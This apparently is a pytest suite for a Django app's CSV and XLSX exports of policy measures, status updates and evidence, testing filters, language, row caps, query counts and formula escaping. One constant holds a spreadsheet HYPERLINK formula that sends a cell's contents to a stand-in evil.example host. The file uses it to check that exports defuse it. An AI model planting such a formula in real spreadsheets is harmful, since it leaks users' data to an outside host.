"""Lists as CSV and XLSX files, from the API and the admin: the filters the list takes, the
language asked for, no formula, a fixed number of queries, and the row cap."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from evidence.choices import Qualifier, Stance
from evidence.models import EvidenceFigure
from recommendations import services
from recommendations.choices import Status
from recommendations.models import Measure, StatusUpdate
from tests.factories import EvidenceFactory, MeasureFactory, PillarFactory, link_evidence

pytestmark = pytest.mark.django_db

TODAY = date(2026, 6, 30)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def record(measure, status, progress, day, **kwargs):
    return services.record_status_update(
        measure=measure,
        status=status,
        progress=progress,
        effective_date=day,
        by=kwargs.pop("by", None),
        today=TODAY,
        **kwargs,
    )


@pytest.fixture
def measures():
    one, two = PillarFactory(number=1), PillarFactory(number=2)
    first = MeasureFactory(
        code="1.1", pillar=one, title_zh="加强数据治理", title_en="Data governance"
    )
    second = MeasureFactory(
        code="1.2", pillar=one, title_zh="隐私计算", title_en="Privacy computing"
    )
    third = MeasureFactory(code="2.1", pillar=two, title_zh="监管沙盒", title_en="Sandbox")
    record(first, Status.IN_PROGRESS, 40, date(2026, 3, 1), note=FORMULA)
    record(third, Status.PLANNED, 10, date(2026, 4, 1))
    return first, second, third


@pytest.fixture
def evidence(measures):
    figured = EvidenceFactory(
        key="figured",
        claim_zh="渗透率",
        claim_en="Penetration",
        date=date(2024, 10, 1),
        date_precision="month",
    )
    EvidenceFigure.objects.create(
        evidence=figured,
        order=1,
        value=Decimal("400"),
        unit="亿",
        qualifier=Qualifier.MORE_THAN,
        measures_zh="市场规模",
        measures_en="market size",
    )
    EvidenceFigure.objects.create(
        evidence=figured,
        order=2,
        value=Decimal("43.5"),
        unit="%",
        qualifier=Qualifier.EXACT,
        measures_zh="占比",
        measures_en="share",
    )
    bare = EvidenceFactory(
        key="bare",
        claim_zh="-1 也像公式",
        claim_en="-1 is a formula too",
        date=date(2023, 1, 1),
        date_precision="day",
    )
    link_evidence(figured, measures[0], Stance.SUPPORTS)
    link_evidence(bare, measures[2], Stance.CONTEXT)
    return figured, bare


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # spreadsheets read the file as UTF-8
    return list(csv.reader(io.StringIO(body[1:])))


def xlsx_sheet(response):
    body = b"".join(response.streaming_content)
    return openpyxl.load_workbook(io.BytesIO(body)).active


# The API


def test_the_api_exports_measures_as_the_list_filters_them_in_chinese(measures, viewer_api):
    response = viewer_api.get(
        reverse("measure-export"), {"pillar": 1, "status": "in_progress", "lang": "zh"}
    )

    rows = csv_rows(response)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="measures_')
    assert rows[0][:5] == ["编号", "政策支柱", "标题", "状态", "进度（%）"]
    assert [row[:5] for row in rows[1:]] == [["1.1", "1", "加强数据治理", "推进中", "40"]]


def test_the_api_exports_in_english_by_default(measures, viewer_api):
    response = viewer_api.get(reverse("measure-export"), {"search": "1.2"})

    rows = csv_rows(response)
    assert rows[0][:4] == ["code", "pillar", "title", "status"]
    assert rows[1][:4] == ["1.2", "1", "Privacy computing", "Not assessed"]
    assert rows[1][10] == "no"  # archived, in words


def test_a_status_history_export_takes_the_feeds_filters(measures, viewer_api):
    response = viewer_api.get(reverse("status-update-export"), {"measure": "1.1"})

    rows = csv_rows(response)
    assert [row[:4] for row in rows[1:]] == [
        ["1.1", "Data governance", "In progress", "40"],
        ["1.1", "Data governance", "Not assessed", ""],
    ]


def test_a_csv_cell_that_would_start_a_formula_starts_with_a_quote(measures, viewer_api):
    response = viewer_api.get(reverse("status-update-export"), {"measure": "1.1"})

    note = csv_rows(response)[1][8]
    assert note == "'" + FORMULA


def test_an_xlsx_cell_that_starts_like_a_formula_is_text(measures, viewer_api):
    response = viewer_api.get(
        reverse("status-update-export"), {"measure": "1.1", "file": "xlsx", "lang": "zh"}
    )

    sheet = xlsx_sheet(response)
    headings = [cell.value for cell in sheet[1]]
    note = sheet.cell(row=2, column=headings.index("备注") + 1)
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert sheet.title == "状态更新"
    assert (note.value, note.data_type) == (FORMULA, "s")
    assert sheet.cell(row=2, column=3).value == "推进中"
    assert sheet.cell(row=2, column=6).value.date() == date(2026, 3, 1)  # a date cell


def test_evidence_exports_one_row_per_figure(evidence, viewer_api):
    response = viewer_api.get(reverse("evidence-export"), {"file": "xlsx", "lang": "zh"})

    sheet = xlsx_sheet(response)
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert [(r[0], r[1], r[6], r[8], r[9], r[10], r[11], r[12]) for r in rows] == [
        ("figured", "渗透率", "2024年10月", 1, 400, "亿", "超过", "市场规模"),
        ("figured", "渗透率", "2024年10月", 2, 43.5, "%", "恰好", "占比"),
        ("bare", "-1 也像公式", datetime(2023, 1, 1), None, None, None, None, None),
    ]


def test_evidence_export_takes_the_lists_filters(evidence, viewer_api):
    response = viewer_api.get(reverse("evidence-export"), {"measure": "2.1", "stance": "context"})

    rows = csv_rows(response)
    assert [row[0] for row in rows[1:]] == ["bare"]
    assert rows[1][1] == "'-1 is a formula too"
    assert rows[1][8:] == ["", "", "", "", ""]  # no figure


@pytest.mark.parametrize(
    "params",
    [{"file": "pdf"}, {"lang": "fr"}, {"ordering": "code"}, {"page": "2"}, {"pillar": "x"}],
    ids=str,
)
def test_a_bad_export_request_is_a_400(measures, viewer_api, params):
    response = viewer_api.get(reverse("measure-export"), params)

    assert response.status_code == 400


def test_an_export_beyond_the_cap_is_refused_and_at_the_cap_served(measures, viewer_api, settings):
    settings.EXPORT_MAX_ROWS = 3
    at_cap = viewer_api.get(reverse("measure-export"))
    settings.EXPORT_MAX_ROWS = 2

    beyond = viewer_api.get(reverse("measure-export"))

    assert at_cap.status_code == 200 and len(csv_rows(at_cap)) == 4
    assert beyond.status_code == 400
    assert "more than 2 rows" in beyond.json()["non_field_errors"][0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_runs_the_same_queries_however_many_rows(
    measures, viewer_api, django_assert_num_queries, fmt
):
    for n in range(20):
        record(MeasureFactory(code=f"9.{n}"), Status.PLANNED, 5, date(2026, 5, 1))

    # 1: does the export fit the cap (a bounded LIMIT); 2: the rows, streamed.
    with django_assert_num_queries(2):
        response = viewer_api.get(reverse("status-update-export"), {"file": fmt})
        body = b"".join(response.streaming_content)

    assert response.status_code == 200 and body


def test_the_api_export_needs_a_role(measures, api):
    response = api.get(reverse("measure-export"))

    assert response.status_code == 401


# The admin


def test_the_admin_exports_every_page_of_what_the_filters_show(
    measures, viewer_client, monkeypatch
):
    from django.contrib import admin

    monkeypatch.setattr(admin.site.get_model_admin(Measure), "list_per_page", 1)
    url = reverse("admin:recommendations_measure_export", args=["csv"])

    response = viewer_client.get(url, {"pillar__id__exact": measures[0].pillar_id, "p": "2"})

    rows = csv_rows(response)
    assert [row[0] for row in rows[1:]] == ["1.1", "1.2"]


def test_the_admin_exports_in_the_language_of_its_page(measures, viewer_client):
    url = reverse("admin:recommendations_measure_export", args=["xlsx"])

    response = viewer_client.get(url, {"status__exact": "planned"}, HTTP_ACCEPT_LANGUAGE="zh-hans")

    sheet = xlsx_sheet(response)
    assert [cell.value for cell in sheet[1]][:4] == ["编号", "政策支柱", "标题", "状态"]
    assert [cell.value for cell in sheet[2]][:4] == ["2.1", 2, "监管沙盒", "已规划"]


def test_the_admin_exports_status_history_and_evidence(evidence, viewer_client):
    history = viewer_client.get(
        reverse("admin:recommendations_statusupdate_export", args=["csv"]),
        {"status__exact": "in_progress"},
    )
    pieces = viewer_client.get(reverse("admin:evidence_evidence_export", args=["csv"]))

    assert [row[:3] for row in csv_rows(history)[1:]] == [["1.1", "Data governance", "In progress"]]
    assert [row[0] for row in csv_rows(pieces)[1:]] == ["figured", "figured", "bare"]


def test_the_admin_list_offers_the_exports_of_what_it_shows(measures, viewer_client):
    page = viewer_client.get(
        reverse("admin:recommendations_measure_changelist"), {"status__exact": "planned"}
    ).content.decode()

    csv_url = reverse("admin:recommendations_measure_export", args=["csv"])
    assert f'href="{csv_url}?status__exact=planned"' in page
    assert "Export XLSX" in page


def test_an_admin_export_beyond_the_cap_says_so_and_sends_no_file(
    measures, viewer_client, settings
):
    settings.EXPORT_MAX_ROWS = 2
    url = reverse("admin:recommendations_measure_export", args=["csv"])

    response = viewer_client.get(url, {"archived__exact": "0"})
    shown = viewer_client.get(response["Location"])

    assert response.status_code == 302
    assert response["Location"].endswith("/recommendations/measure/?archived__exact=0")
    assert "more than 2 rows" in shown.content.decode()


def test_an_admin_export_runs_the_same_queries_however_many_rows(measures, viewer_client):
    url = reverse("admin:recommendations_statusupdate_export", args=["csv"])

    def export():
        with CaptureQueriesContext(connection) as queries:
            b"".join(viewer_client.get(url).streaming_content)
        return len(queries)

    few = export()
    for n in range(20):
        record(MeasureFactory(code=f"9.{n}"), Status.PLANNED, 5, date(2026, 5, 1))
    many = export()

    assert StatusUpdate.objects.count() > 40
    assert many == few


def test_an_admin_export_with_an_undeclared_filter_is_a_400(measures, viewer_client):
    url = reverse("admin:recommendations_measure_export", args=["csv"])

    response = viewer_client.get(url, {"title_en__regex": "x"})

    assert response.status_code == 400


def test_an_unknown_format_is_a_404(viewer_client):
    response = viewer_client.get("/admin/recommendations/measure/export/pdf/")

    assert response.status_code == 404


def test_figures_and_dates_are_written_as_people_write_them(evidence, viewer_api):
    response = viewer_api.get(reverse("evidence-export"), {"measure": "1.1", "lang": "en"})

    rows = csv_rows(response)
    assert [(row[6], row[9], row[11]) for row in rows[1:]] == [
        ("2024-10", "400", "more than"),
        ("2024-10", "43.5", "exactly"),
    ]
